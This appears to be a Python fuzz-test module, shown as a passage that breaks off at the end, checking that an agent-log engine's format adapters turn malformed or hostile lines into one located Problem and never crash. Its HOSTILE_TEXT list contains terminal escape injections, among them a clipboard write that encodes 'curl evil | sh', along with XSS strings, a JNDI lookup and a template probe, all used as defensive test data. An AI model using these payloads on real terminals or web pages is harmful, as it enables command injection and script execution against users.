"""Fuzzing every format adapter, alone and inside the engine: bad input is a located Problem, never a crash.

The contract under test (``core.formats.base``): an adapter is a pure function from one line to records.

* No exception escapes ``parse``, whatever the bytes (mutated JSON, truncation, wrong types, deep nesting,
  huge strings, NUL, invalid UTF-8).
* A bad line becomes exactly one ``Problem`` carrying the path, line number and byte offset it was given,
  and nothing else (no half-parsed record next to it).
* Every record names where it came from (``where.path/line/offset``), so a drill-down can re-read it.
* A line is parsed the same inside a file (read by ``Engine`` through ``Sources``, sniffed, batched) as when
  handed to the adapter alone, and the engine's per-file statistics count each bad line once.

Every adapter of every agent in ``core.agents.AGENTS`` is fuzzed (``core.agents.ADAPTERS``): a new agent's
formats are covered the day its line joins the list. senpi's formats also get strategies that build *valid* records with random field values.

All hypothesis runs are derandomized (a fixed seed per test), so CI sees the same examples every time.
"""

from __future__ import annotations

import copy
import datetime
import typing
from collections import Counter
from pathlib import Path
from typing import Any

import orjson
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from core.agents import ADAPTERS
from core.agents.senpi.formats.logs import COMPACTION_EVENTS
from core.engine import Engine, SourceStat
from core.formats.base import MAX_DEPTH, MAX_LINE_BYTES
from core.model import CLOSE_EVENT, CONTINUITY_EVENT, LogEvent, Problem, Record, Where
from tests.hang import time_limit

ALL_ADAPTERS = list(ADAPTERS)
BY_NAME = {a.name: a for a in ALL_ADAPTERS}
RECORD_TYPES: tuple[type, ...] = typing.get_args(Record)

FUZZ = settings(
    derandomize=True,
    database=None,
    deadline=None,
    max_examples=100,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large, HealthCheck.function_scoped_fixture],
)
FUZZ_FEW = settings(FUZZ, max_examples=40)

PATH = "/fuzz/agent/sessions/--fuzz--/2026-08-22T09-00-00-000Z_fuzz.jsonl"


def adapter_ids(adapter: Any) -> str:
    return str(adapter.name)


# ---------------------------------------------------------------------------- the property every call must hold


def check_contract(adapter: Any, path: str, lineno: int, offset: int, data: bytes) -> list[Record]:
    """Call ``parse`` and assert the adapter contract on its answer; return the records for further checks."""
    records = adapter.parse(path, lineno, offset, data)
    assert isinstance(records, list), f"{adapter.name} returned {type(records).__name__}, not a list"
    problems = [r for r in records if isinstance(r, Problem)]
    if problems:
        assert len(records) == 1, f"{adapter.name}: a bad line must be exactly one Problem, got {records!r:.300}"
        (p,) = problems
        assert (p.path, p.line, p.offset) == (path, lineno, offset)
        assert isinstance(p.error, str) and p.error.strip()
        # a reason is one short human line: it never echoes a whole hostile line back
        assert len(p.error) <= 500 and "\n" not in p.error
    for r in records:
        assert isinstance(r, RECORD_TYPES) or hasattr(r, "where"), f"{adapter.name}: unexpected {type(r).__name__}"
        if not isinstance(r, Problem):
            where = r.where
            assert isinstance(where, Where)
            assert (where.path, where.line, where.offset) == (path, lineno, offset)
    return records


def is_json_object(data: bytes) -> bool:
    """What ``load_object`` accepts (trailing ``\\r`` stripped), independently of the adapters' code."""
    if data.endswith(b"\r"):
        data = data[:-1]
    try:
        return isinstance(orjson.loads(data), dict)
    except orjson.JSONDecodeError:
        return False


# ---------------------------------------------------------------------------- value strategies

#: Strings that have bitten terminal and web UIs: Rich/Textual markup, escape sequences, bidi, NUL, HTML.
HOSTILE_TEXT = [
    "[bold red]x[/]",
    "[link=http://evil.example]click[/link]",
    "[$accent]",
    "[@click=app.quit]quit[/]",
    "[/]",
    "[",
    "\x1b]0;pwned\x07",
    "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07",
    "\x1b[2J\x1b[H",
    "\x1b[6n",
    "\x1bc",
    "\x1bP+q544e\x1b\\",
    "\x9b31m\x9d0;t\x07",
    "\u202egnp.exe",
    "\u2066\u2067\u2068\u2069\u200e\u200f\u061c",
    "\x00",
    "nul\x00inside",
    "\r\nfake: line",
    "\u2028\u2029\x85",
    "</script><script>alert(1)</script>",
    "\"' onmouseover=alert(1) x='",
    "<!--",
    "${jndi:ldap://x}",
    "{{7*7}}",
    "\ufeff",
    "🙂" * 50,
    "",
    " ",
]

text_values = st.one_of(
    st.text(max_size=40),
    st.sampled_from(HOSTILE_TEXT),
    st.text(alphabet=st.characters(min_codepoint=0, max_codepoint=0x2FF), max_size=40),
)
int64s = st.integers(min_value=-(2**63), max_value=2**63 - 1)
scalars = st.one_of(
    st.none(),
    st.booleans(),
    int64s,
    st.floats(allow_nan=False, allow_infinity=False),
    text_values,
)
json_values = st.recursive(
    scalars,
    lambda children: st.one_of(
        st.lists(children, max_size=4),
        st.dictionaries(st.text(max_size=12), children, max_size=3),
    ),
    max_leaves=6,
)

iso_stamps = st.datetimes(min_value=datetime.datetime(1, 1, 2), max_value=datetime.datetime(9999, 12, 30)).map(
    lambda d: d.isoformat(timespec="milliseconds") + "Z"
)
timestamps = st.one_of(iso_stamps, text_values)
epoch_ms = st.one_of(
    st.integers(min_value=-(2**63), max_value=2**63 - 1),
    st.floats(allow_nan=False, allow_infinity=False),
    st.just(1_787_389_200_000),
)


def maybe(strategy: st.SearchStrategy[Any]) -> st.SearchStrategy[Any]:
    return st.one_of(strategy, json_values)


@st.composite
def object_with_extra(draw: st.DrawFn, base: dict[str, Any], keys: list[str]) -> dict[str, Any]:
    """``base`` plus a random subset of ``keys`` (with random values) plus a few random keys."""
    obj = dict(base)
    for key in draw(st.lists(st.sampled_from(keys), max_size=5, unique=True)) if keys else []:
        obj[key] = draw(json_values)
    for key, value in draw(st.dictionaries(st.text(max_size=10), json_values, max_size=1)).items():
        obj.setdefault(key, value)
    return obj


# ---------------------------------------------------------------------------- senpi: session.log / compaction.log

#: The logger's data-key allowlist (reference senpi-formats §2.1), plus the newer builds' sessionId.
LOG_DATA_KEYS = [
    "action", "attemptId", "disposition", "stage", "error", "mode", "count", "willRetry", "deferAdmission",
    "delivered", "restored", "cause", "accepted", "skipped", "rejectionCause", "reason", "durationMs", "kind",
    "retryable", "phase", "op", "bytes", "generation", "requestId", "tokens", "tokensBefore", "tokensAfter",
    "contextWindow", "attempt", "aborted", "sessionId",
]  # fmt: skip
LOG_EVENTS = [
    CONTINUITY_EVENT, CLOSE_EVENT, "compaction_start", "compaction_decision", "provider_error", "prompt_rejected",
    "queue_enqueue", "queue_dequeue", "clipboard_error", "compaction_queue_deferred", "compaction_queue_restored",
    "claude_sdk_oauth_checkpoint_recovered", *sorted(COMPACTION_EVENTS),
]  # fmt: skip
KINDS = ["bootstrap", "delta", "reattach", "fork", "flatten", "disabled", "failed"]
REASONS = [
    "prefix_matched", "registry_miss", "idle_ttl", "assistant_rewritten", "query_failed", "options_changed",
    "resume_mode_off", "transcript_missing", "sent_stream_diverged", "other",
]  # fmt: skip


@st.composite
def session_log_objects(draw: st.DrawFn, events: st.SearchStrategy[str] | None = None) -> dict[str, Any]:
    """A valid senpi log line: string envelope, valid continuity/close fields, any other data values."""
    event = draw(events if events is not None else st.one_of(st.sampled_from(LOG_EVENTS), text_values))
    base: dict[str, Any] = {
        "ts": draw(timestamps),
        "level": draw(st.one_of(st.sampled_from(["debug", "info", "warn"]), text_values)),
        "event": event,
    }
    obj = draw(object_with_extra(base, LOG_DATA_KEYS))
    if event == CONTINUITY_EVENT:
        obj["kind"] = draw(st.one_of(st.sampled_from(KINDS), text_values))
        obj["reason"] = draw(st.one_of(st.sampled_from(REASONS), text_values))
        if draw(st.booleans()):
            obj["count"] = draw(st.one_of(st.integers(min_value=0, max_value=10**6), json_values))
    elif event == CLOSE_EVENT:
        obj["reason"] = draw(st.one_of(st.sampled_from(REASONS), text_values))
    return obj


@st.composite
def session_log_wrong_types(draw: st.DrawFn) -> dict[str, Any]:
    """A log line whose envelope (or continuity/close field) has a non-string value: always a Problem."""
    obj = draw(session_log_objects())
    non_string = st.one_of(st.none(), st.booleans(), int64s, st.lists(int64s, max_size=2),
                           st.dictionaries(st.text(max_size=3), int64s, max_size=2))  # fmt: skip
    targets = ["ts", "level", "event"]
    if obj["event"] == CONTINUITY_EVENT:
        targets += ["kind", "reason"]
    elif obj["event"] == CLOSE_EVENT:
        targets += ["reason"]
    key = draw(st.sampled_from(targets))
    if draw(st.booleans()):
        obj[key] = draw(non_string)
    else:
        obj.pop(key)
    return obj


# ---------------------------------------------------------------------------- senpi: transcripts and sidecars

ENTRY_TYPES = [
    "message", "custom", "custom_message", "compaction", "model_change", "thinking_level_change",
    "branch_summary", "label", "session_info", "context_edit",
]  # fmt: skip
ROLES = ["user", "assistant", "toolResult", "custom", "hookMessage", "bashExecution"]
entry_ids = st.one_of(st.text(alphabet="0123456789abcdef", min_size=1, max_size=8), text_values)


@st.composite
def content_blocks(draw: st.DrawFn) -> Any:
    block = st.one_of(
        st.fixed_dictionaries({"type": st.just("text"), "text": text_values}),
        st.fixed_dictionaries(
            {"type": st.just("thinking"), "thinking": text_values, "thinkingSignature": text_values},
            optional={"startedAt": epoch_ms, "endedAt": epoch_ms},
        ),
        st.fixed_dictionaries(
            {"type": st.just("toolCall"), "id": text_values, "name": text_values, "arguments": json_values}
        ),
        st.fixed_dictionaries({"type": st.just("image"), "data": text_values, "mimeType": text_values}),
        json_values,
    )
    return draw(st.one_of(st.lists(block, max_size=4), text_values, json_values))


@st.composite
def messages(draw: st.DrawFn) -> dict[str, Any]:
    role = draw(st.one_of(st.sampled_from(ROLES), text_values))
    msg: dict[str, Any] = {"role": role, "content": draw(content_blocks()), "timestamp": draw(maybe(epoch_ms))}
    if role == "assistant" or draw(st.booleans()):
        diag_details = st.fixed_dictionaries(
            {"kind": maybe(st.sampled_from(KINDS)), "reason": maybe(st.sampled_from(REASONS))},
            optional={"deltaMessages": maybe(st.integers(0, 50)), "payloadBytes": maybe(st.integers(0, 10**9)),
                      "collapsedDirectives": maybe(st.integers(0, 20))},
        )  # fmt: skip
        diagnostic = st.fixed_dictionaries(
            {"type": st.one_of(st.just(CONTINUITY_EVENT), text_values), "timestamp": maybe(epoch_ms)},
            optional={"details": st.one_of(diag_details, json_values), "error": json_values},
        )
        msg.update(
            draw(
                st.fixed_dictionaries(
                    {},
                    optional={
                        "api": maybe(st.just("claude-sdk-oauth")),
                        "provider": maybe(st.just("claude-sdk-oauth")),
                        "model": maybe(st.just("claude-opus-4-8")),
                        "usage": maybe(st.dictionaries(st.sampled_from(["input", "output", "cacheRead",
                                                                         "cacheWrite", "totalTokens"]),
                                                       maybe(st.integers(0, 10**7)))),
                        "stopReason": maybe(st.sampled_from(["stop", "length", "toolUse", "error", "aborted"])),
                        "diagnostics": st.one_of(st.lists(diagnostic, max_size=3), json_values),
                        "errorMessage": text_values,
                        "toolCallId": text_values,
                        "toolName": text_values,
                        "isError": maybe(st.booleans()),
                    },
                )
            )
        )  # fmt: skip
    return msg


@st.composite
def transcript_headers(draw: st.DrawFn) -> dict[str, Any]:
    """A valid session header (``type: session`` with a string id), other fields random."""
    header: dict[str, Any] = {
        "type": "session",
        "version": draw(st.one_of(st.just(3), json_values)),
        "id": draw(st.one_of(st.uuids().map(str), text_values)),
        "timestamp": draw(maybe(iso_stamps)),
        "cwd": draw(maybe(text_values)),
    }
    if draw(st.booleans()):
        header["parentSession"] = draw(maybe(text_values))
    return header


@st.composite
def transcript_entries(draw: st.DrawFn) -> dict[str, Any]:
    """A valid transcript entry: a string ``type``; ``message`` entries carry a message object."""
    etype = draw(st.one_of(st.sampled_from(ENTRY_TYPES), text_values.filter(lambda t: t != "session")))
    base: dict[str, Any] = {
        "type": etype,
        "id": draw(maybe(entry_ids)),
        "parentId": draw(st.one_of(st.none(), entry_ids, json_values)),
        "timestamp": draw(maybe(iso_stamps)),
    }
    if etype == "message":
        base["message"] = draw(messages())
    keys = ["customType", "data", "content", "display", "details", "summary", "firstKeptEntryId",
            "firstKeptEntryIndex", "tokensBefore", "provider", "modelId", "thinkingLevel", "fromHook", "label"]  # fmt: skip
    return draw(object_with_extra(base, keys))


@st.composite
def transcript_wrong_types(draw: st.DrawFn) -> dict[str, Any]:
    """Entries a transcript adapter must refuse: non-string type, message without an object, header without id."""
    choice = draw(st.integers(0, 2))
    non_string = st.one_of(st.none(), st.booleans(), int64s, st.lists(int64s, max_size=2))
    if choice == 0:
        obj = draw(transcript_entries())
        if draw(st.booleans()):
            obj["type"] = draw(non_string)
        else:
            obj.pop("type")
    elif choice == 1:
        obj = draw(transcript_entries())
        obj["type"] = "message"
        obj["message"] = draw(st.one_of(non_string, text_values, st.lists(json_values, max_size=2)))
    else:
        obj = draw(transcript_headers())
        obj["id"] = draw(non_string)
    return obj


SIDECAR_KEYS = [
    "schemaVersion", "sessionPath", "sessionId", "markerEntryId", "sdkSessionId", "sentCount", "sentPrefixHash",
    "assistantContentHash", "lastAssistantUuid", "accountName", "modelId", "systemPromptHash", "toolsetHash",
]  # fmt: skip
sidecar_objects = st.dictionaries(st.sampled_from(SIDECAR_KEYS), json_values, max_size=len(SIDECAR_KEYS))

# ---------------------------------------------------------------------------- byte-level mutations


def dumps(obj: Any) -> bytes:
    return orjson.dumps(obj)


@st.composite
def truncated(draw: st.DrawFn, objects: st.SearchStrategy[dict[str, Any]]) -> bytes:
    """A proper prefix of a compact JSON object is never a JSON object: what a torn write leaves."""
    data = dumps(draw(objects))
    return data[: draw(st.integers(0, len(data) - 1))]


BAD_BYTES = [b"\x00", b"\xff", b"\xfe", b"\xc3", b"\xed\xa0\x80", b"\xf4\x90\x80\x80", b"\xc0\xaf", b"\x1b", b"\x0c"]


@st.composite
def poisoned(draw: st.DrawFn, objects: st.SearchStrategy[dict[str, Any]]) -> bytes:
    """NUL, raw ESC or invalid UTF-8 inserted anywhere: orjson rejects each of these at any position."""
    data = dumps(draw(objects))
    at = draw(st.integers(0, len(data)))
    return data[:at] + draw(st.sampled_from(BAD_BYTES)) + data[at:]


@st.composite
def mutated(draw: st.DrawFn, objects: st.SearchStrategy[dict[str, Any]]) -> bytes:
    """Random byte edits of a valid line: the result may or may not be valid; only the contract is checked."""
    data = bytearray(dumps(draw(objects)))
    for _ in range(draw(st.integers(1, 4))):
        op = draw(st.integers(0, 3))
        at = draw(st.integers(0, len(data)))
        if op == 0 and data:
            data[min(at, len(data) - 1)] = draw(st.integers(0, 255))
        elif op == 1:
            data[at:at] = draw(st.binary(min_size=1, max_size=4))
        elif op == 2 and data:
            del data[at : at + draw(st.integers(1, 4))]
        else:
            data[at:at] = draw(st.sampled_from([b"{", b"}", b"[", b"]", b'"', b",", b":", b"\\", b"\\u00"]))
    return bytes(data).replace(b"\n", b"")


def nested(depth: int, leaf: bytes = b"1") -> bytes:
    return b"[" * depth + leaf + b"]" * depth


_NOT_OBJECT_SAMPLES = [
    b"", b" ", b"\t", b"\r", b"null", b"true", b"1", b"-0.5e3", b'"str"', b"[]", b"[{}]", b"\xef\xbb\xbf{}", b"{}{}",
    b'{"a":1}x', b'{"a":1}\x00', b"{'a':1}", b'{"a":NaN}', b'{"a":1e400}', b'{"a":-Infinity}', b"{,}", b'{"a"}',
    b'{"\\ud800":1}', b'{"a":"\\ud800"}',
]  # fmt: skip
not_objects = st.one_of(
    st.sampled_from(_NOT_OBJECT_SAMPLES),
    json_values.filter(lambda v: not isinstance(v, dict)).map(dumps),
    st.binary(max_size=200).map(lambda b: b.replace(b"\n", b"")).filter(lambda b: not is_json_object(b)),
    st.integers(1025, 12_000).map(lambda d: b'{"a":' + nested(d) + b"}"),
    st.integers(1025, 12_000).map(lambda d: b'{"a":' * d + b"1" + b"}" * d),
)  # fmt: skip

any_object = st.one_of(
    session_log_objects(), transcript_headers(), transcript_entries(), sidecar_objects,
    st.dictionaries(st.text(max_size=10), json_values, max_size=6),
)  # fmt: skip

# ---------------------------------------------------------------------------- adapter-level properties


# Each example is checked against every adapter: generating an example costs more than parsing it.


@FUZZ
@given(data=not_objects, lineno=st.integers(1, 10**9), offset=st.integers(0, 2**62))
def test_a_line_that_is_not_a_json_object_is_exactly_one_located_problem(data: bytes, lineno: int, offset: int) -> None:
    for adapter in ALL_ADAPTERS:
        records = check_contract(adapter, PATH, lineno, offset, data)
        assert len(records) == 1 and isinstance(records[0], Problem), (adapter.name, records)


@FUZZ
@given(data=st.one_of(truncated(any_object), poisoned(any_object)))
def test_truncated_and_poisoned_lines_are_exactly_one_problem(data: bytes) -> None:
    for adapter in ALL_ADAPTERS:
        records = check_contract(adapter, PATH, 7, 4096, data)
        assert len(records) == 1 and isinstance(records[0], Problem), (adapter.name, records)


@FUZZ
@given(data=st.one_of(mutated(any_object), st.binary(max_size=300)))
def test_random_bytes_and_mutated_json_never_raise(data: bytes) -> None:
    for adapter in ALL_ADAPTERS:
        records = check_contract(adapter, PATH, 3, 99, data)
        if not is_json_object(data):
            assert len(records) == 1 and isinstance(records[0], Problem), (adapter.name, records)


@FUZZ
@given(obj=any_object, crlf=st.booleans())
def test_any_json_object_is_records_or_one_problem_and_parsing_is_pure(obj: dict, crlf: bool) -> None:
    """Valid JSON of any shape (wrong types included): never raises; twice the same line gives the same answer."""
    data = dumps(obj) + (b"\r" if crlf else b"")
    for adapter in ALL_ADAPTERS:
        first = check_contract(adapter, PATH, 11, 512, data)
        again = adapter.parse(PATH, 11, 512, data)
        assert _comparable(first) == _comparable(again), adapter.name


#: (strategy of valid objects, adapters that must accept every one of them without a Problem)
GOOD = {
    "session-log": (session_log_objects(), ["senpi-session-log", "senpi-compaction-log"]),
    "transcript-header": (transcript_headers(), ["senpi-transcript", "pi-transcript"]),
    "transcript-entry": (transcript_entries(), ["senpi-transcript", "pi-transcript"]),
    "sidecar": (sidecar_objects, ["senpi-sidecar"]),
}


@pytest.mark.parametrize("fmt", list(GOOD))
@FUZZ
@given(data=st.data())
def test_valid_senpi_records_with_random_field_values_parse_without_a_problem(fmt: str, data: st.DataObject) -> None:
    strategy, names = GOOD[fmt]
    line = dumps(data.draw(strategy))
    for name in names:
        if name not in BY_NAME:
            continue
        records = check_contract(BY_NAME[name], PATH, 5, 1000, line)
        assert records and not any(isinstance(r, Problem) for r in records), (name, records)
        for r in records:
            assert r.where.length == len(line)


WRONG = {
    "session-log": (session_log_wrong_types(), ["senpi-session-log", "senpi-compaction-log"]),
    "transcript": (transcript_wrong_types(), ["senpi-transcript", "pi-transcript"]),
}


@pytest.mark.parametrize("fmt", list(WRONG))
@FUZZ
@given(data=st.data())
def test_senpi_records_with_wrong_types_are_exactly_one_problem(fmt: str, data: st.DataObject) -> None:
    strategy, names = WRONG[fmt]
    obj = data.draw(strategy)
    for name in names:
        if name in BY_NAME:
            records = check_contract(BY_NAME[name], PATH, 2, 10, dumps(obj))
            assert len(records) == 1 and isinstance(records[0], Problem), (name, obj, records)


@pytest.mark.parametrize("adapter", ALL_ADAPTERS, ids=adapter_ids)
@pytest.mark.parametrize("depth", [150, MAX_DEPTH - 1, MAX_DEPTH, 254, 300, 1000, 1024, 1025, 10_000, 200_000])
def test_deep_nesting_is_one_problem_past_the_depth_limit_never_a_crash(adapter: Any, depth: int) -> None:
    """orjson parses 1024 levels, but downstream walks cannot: past ``MAX_DEPTH`` a line is one Problem."""
    lines = {
        nested(depth): depth,
        b'{"type":"message","message":' * depth + b"{}" + b"}" * depth: depth + 1,
        b'{"ts":"t","level":"info","event":"e","x":' + nested(depth) + b"}": depth + 1,
    }
    for line, levels in lines.items():
        records = check_contract(adapter, PATH, 1, 0, line)
        if levels > MAX_DEPTH or line.startswith(b"["):
            assert len(records) == 1 and isinstance(records[0], Problem), (adapter.name, levels)


def test_huge_strings_and_the_line_size_limit() -> None:
    """An 8 MiB string inside a valid line parses; a line over the 64 MiB limit is one Problem, not a parse."""
    big = "x\u00e9\U0001f642" * (8 * 1024 * 1024 // 7)
    lines = [
        dumps({"ts": "2026-08-22T09:00:00.000Z", "level": "info", "event": "provider_error", "error": big}),
        dumps({"type": "message", "id": "a", "parentId": None, "timestamp": "t",
               "message": {"role": "assistant", "content": [{"type": "text", "text": big}]}}),
    ]  # fmt: skip
    over = b'{"a":"' + b"y" * (MAX_LINE_BYTES + 1) + b'"}'
    for adapter in ALL_ADAPTERS:
        for line in lines:
            check_contract(adapter, PATH, 1, 0, line)
        records = check_contract(adapter, PATH, 9, 123, over)
        assert len(records) == 1 and isinstance(records[0], Problem) and "limit" in records[0].error, adapter.name


def _comparable(records: list[Any]) -> list[Any]:
    """Records as comparable values: Problems without the wall-clock ``ts_ms`` the engine stamps on them."""
    out = []
    for r in records:
        if isinstance(r, Problem):
            out.append(("Problem", r.path, r.line, r.offset, r.error))
        else:
            out.append(r)
    return out


def _by_line(records: list[Any]) -> tuple[list[Any], Counter[str]]:
    """Located records (decisions, closes, problems) stably sorted by line; other log events counted by name."""
    located = [r for r in _comparable(records) if not isinstance(r, LogEvent)]
    located.sort(key=lambda r: (r[2] or 0) if isinstance(r, tuple) else r.where.line)
    return located, Counter(r.event for r in records if isinstance(r, LogEvent))


# ---------------------------------------------------------------------------- engine-level: same inside a file


class Recorder:
    """Wraps ``State.apply``: keeps a deep copy of every record, taken before state (or analysis) touches it."""

    def __init__(self, engine: Engine) -> None:
        self.records: list[Any] = []
        self._apply = engine.state.apply
        self._apply_block = engine.state.apply_block
        engine.state.apply = self  # type: ignore[method-assign]
        engine.state.apply_block = self.block  # type: ignore[method-assign]
        self.blocks = 0

    def block(self, block: Any, agent: Any) -> None:
        """A log's block (`Adapter.parse_block`): its lines as records (compared in line order, see `_same`)."""
        self.blocks += 1
        self.records.extend(block.as_records())
        self._apply_block(block, agent)

    def __call__(self, record: Any, agent: Any) -> None:
        try:
            snapshot = copy.deepcopy(record)
        except RecursionError:  # valid JSON can nest deeper than deepcopy recurses; top-level fields still count
            snapshot = copy.copy(record)
        self.records.append(snapshot)
        self._apply(record, agent)


def expected_records(adapter: Any, path: str, lines: list[bytes]) -> tuple[list[Any], int]:
    """Each line parsed alone at its own line number and offset; blank lines are skipped as the engine does."""
    out: list[Any] = []
    bad = 0
    offset = 0
    for lineno, data in enumerate(lines, 1):
        if data.strip():
            records = adapter.parse(path, lineno, offset, data)
            bad += sum(isinstance(r, Problem) for r in records)
            out.extend(records)
        offset += len(data) + 1
    return out, bad


def run_engine(tmp: Path, rel: str, lines: list[bytes], adapter: Any | None = None) -> tuple[Engine, Recorder, str]:
    path = tmp / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(b"".join(line + b"\n" for line in lines))
    engine = Engine([path])
    if adapter is not None:
        engine.adapters[str(path)] = adapter  # skip sniffing: the line-level contract is what is under test
    recorder = Recorder(engine)
    engine.drain(chunk=4096)  # small reads: lines cross poll boundaries
    return engine, recorder, str(path)


def assert_same_as_alone(engine: Engine, recorder: Recorder, path: str, lines: list[bytes]) -> None:
    adapter = engine.adapters[path]
    expected, bad = expected_records(adapter, path, lines)
    if adapter.blocks:  # a block's records come per table: compare them in line order, other events by name
        assert _by_line(recorder.records) == _by_line(expected)
    else:
        assert _comparable(recorder.records) == _comparable(expected)
    stat = engine.stats.get(path) or SourceStat(path)  # an empty file never gets a stat
    assert stat.lines == len(lines)
    assert stat.bad_lines == bad
    assert stat.bytes == sum(len(line) + 1 for line in lines)
    if bad <= 1000:  # state keeps the newest 1000 problems
        located = [(p.line, p.offset) for p in engine.state.problems if p.path == path]
        assert located == [(r.line, r.offset) for r in expected if isinstance(r, Problem)]


#: not_objects, with nesting kept just past the limit so a file of them stays small
bad_lines = st.one_of(
    st.sampled_from(_NOT_OBJECT_SAMPLES),
    json_values.filter(lambda v: not isinstance(v, dict)).map(dumps),
    st.binary(max_size=200).map(lambda b: b.replace(b"\n", b"")).filter(lambda b: not is_json_object(b)),
    st.integers(1025, 1100).map(lambda d: b'{"a":' + nested(d) + b"}"),
)


def file_lines(good: st.SearchStrategy[dict[str, Any]], wrong: st.SearchStrategy[dict[str, Any]] | None) -> Any:
    parts = [good.map(dumps), bad_lines, truncated(good), poisoned(good), mutated(good)]
    if wrong is not None:
        parts.append(wrong.map(dumps))
    return st.lists(st.one_of(*parts), max_size=25)


ENGINE_FORMATS = {
    # name: (file path under tmp, first line strategy (sniffs as the format), body strategy, accepted adapters)
    "session-log": ("agent/logs/session.log", session_log_objects(), file_lines(session_log_objects(), session_log_wrong_types()),
                    {"senpi-session-log"}),
    "compaction-log": ("agent/logs/compaction.log", session_log_objects(st.sampled_from(sorted(COMPACTION_EVENTS))),
                       file_lines(session_log_objects(), session_log_wrong_types()), {"senpi-compaction-log"}),
    "transcript": ("agent/sessions/--p--/2026-08-22T09-00-00-000Z_x.jsonl", transcript_headers(),
                   file_lines(transcript_entries(), transcript_wrong_types()), {"senpi-transcript", "pi-transcript"}),
    "sidecar": ("agent/sessions/--p--/x.jsonl.claude-sdk-oauth-binding.json", sidecar_objects,
                file_lines(sidecar_objects, None), {"senpi-sidecar"}),
}  # fmt: skip


@pytest.mark.parametrize("fmt", list(ENGINE_FORMATS))
@settings(FUZZ, max_examples=40)
@given(data=st.data())
def test_a_file_of_random_good_and_bad_lines_is_parsed_as_each_line_alone(
    tmp_path_factory: pytest.TempPathFactory, fmt: str, data: st.DataObject
) -> None:
    """Bad lines before the first good one are held while sniffing, then parsed with the format found."""
    rel, first, body, accepted = ENGINE_FORMATS[fmt]
    before = data.draw(st.lists(bad_lines, max_size=3), label="bad lines before the first good one")
    lines = [*before, dumps(data.draw(first, label="first good line")), *data.draw(body, label="body")]
    engine, recorder, path = run_engine(tmp_path_factory.mktemp(fmt), rel, lines)
    try:
        assert engine.adapters[path].name in accepted
        assert_same_as_alone(engine, recorder, path, lines)
    finally:
        engine.close()


@pytest.mark.parametrize("adapter", ALL_ADAPTERS, ids=adapter_ids)
@settings(FUZZ, max_examples=25)
@given(
    lines=st.lists(st.one_of(any_object.map(dumps), bad_lines, truncated(any_object), mutated(any_object)), max_size=25)
)
def test_every_registered_adapter_inside_the_engine_parses_as_alone_and_never_crashes_state(
    tmp_path_factory: pytest.TempPathFactory, adapter: Any, lines: list[bytes]
) -> None:
    """Random objects of every senpi shape, fed through each adapter into State and every analysis."""
    engine, recorder, path = run_engine(tmp_path_factory.mktemp("any"), "f/fuzz.jsonl", lines, adapter)
    try:
        assert_same_as_alone(engine, recorder, path, lines)
    finally:
        engine.close()


@st.composite
def transcript_trees(draw: st.DrawFn) -> list[bytes]:
    """A header then entries whose ids and parents come from a tiny alphabet: duplicates, cycles, branch jumps."""
    ids = st.sampled_from(["a", "b", "c", "d", "e"])
    lines = [dumps({"type": "session", "version": 3, "id": "S", "timestamp": "2026-08-22T09:00:00.000Z", "cwd": "/"})]
    for _ in range(draw(st.integers(0, 30))):
        etype = draw(st.sampled_from(["message", "message", "message", "compaction", "custom", "label"]))
        entry: dict[str, Any] = {"type": etype, "id": draw(st.one_of(ids, st.none())),
                                 "parentId": draw(st.one_of(ids, st.none())), "timestamp": "2026-08-22T09:00:01.000Z"}  # fmt: skip
        if etype == "message":
            role = draw(st.sampled_from(["user", "assistant", "toolResult"]))
            entry["message"] = {"role": role, "content": [{"type": "text", "text": draw(st.sampled_from(HOSTILE_TEXT))}],
                                "timestamp": 1_787_389_200_000 + draw(st.integers(0, 10_000))}  # fmt: skip
            if role == "assistant":
                details = {"kind": draw(st.sampled_from(KINDS)), "reason": draw(st.sampled_from(REASONS)),
                           "deltaMessages": draw(st.integers(0, 3))}  # fmt: skip
                entry["message"]["diagnostics"] = [{"type": CONTINUITY_EVENT, "timestamp": 0, "details": details}]
        elif etype == "custom":
            entry["customType"] = "claude-sdk-oauth-binding"
            entry["data"] = draw(st.sampled_from([{"schemaVersion": 2, "marker": True}, {"invalidated": True}]))
        lines.append(dumps(entry))
    return lines


@settings(FUZZ, max_examples=30)
@given(lines=transcript_trees())
def test_entry_trees_with_duplicate_ids_and_cycles_never_hang_or_crash(
    tmp_path_factory: pytest.TempPathFactory, lines: list[bytes]
) -> None:
    with time_limit(20):
        engine, recorder, path = run_engine(
            tmp_path_factory.mktemp("tree"), "s/--p--/2026-08-22T09-00-00-000Z_t.jsonl", lines
        )
    try:
        assert_same_as_alone(engine, recorder, path, lines)
    finally:
        engine.close()


def test_a_parent_cycle_in_the_entry_tree_does_not_hang_the_branch_switch(tmp_path: Path) -> None:
    """Found by the fuzzer above: b -> c -> b is a parent cycle (ids repeat in hostile files). Walking up from
    b to the active branch used to loop forever (growing a list without bound)."""
    entries = [
        {"type": "session", "version": 3, "id": "S", "timestamp": "2026-08-22T09:00:00.000Z", "cwd": "/"},
        {"type": "label", "id": "b", "parentId": None, "timestamp": "t"},
        {"type": "label", "id": "c", "parentId": "b", "timestamp": "t"},
        {"type": "label", "id": "b", "parentId": "c", "timestamp": "t"},  # duplicate id closes the cycle b -> c -> b
        {"type": "label", "id": "e", "parentId": None, "timestamp": "t"},  # a new root: branch is now [e]
        {"type": "label", "id": "f", "parentId": "b", "timestamp": "t"},  # walk up from b: b, c, b, c, ...
    ]
    lines = [dumps(e) for e in entries]
    with time_limit(5):
        engine, _recorder, path = run_engine(tmp_path, "s/--p--/2026-08-22T09-00-00-000Z_c.jsonl", lines)
    try:
        session = engine.state.sessions[path]
        assert session.branch[-1] == "f"
        assert len(session.branch) <= len(entries)
    finally:
        engine.close()


@pytest.mark.parametrize("depth", [100, MAX_DEPTH - 6, 254, 300, 1000])
def test_deep_message_content_is_analysed_or_one_problem_never_a_crash(tmp_path: Path, depth: int) -> None:
    """Found by this test: a valid transcript line nested 1000 levels deep (orjson parses up to 1024) crashed
    the engine with RecursionError in the digest walk (``core.kernel.canonical``), and past 255 levels
    ``orjson.dumps`` refuses to serialize. ``load_object`` now refuses lines deeper than ``MAX_DEPTH``, so
    every analysis, the report and the TUI only ever see nesting they can walk."""
    deep_list = nested(depth, b'"leaf"')
    deep_obj = b'{"k":' * depth + b"1" + b"}" * depth
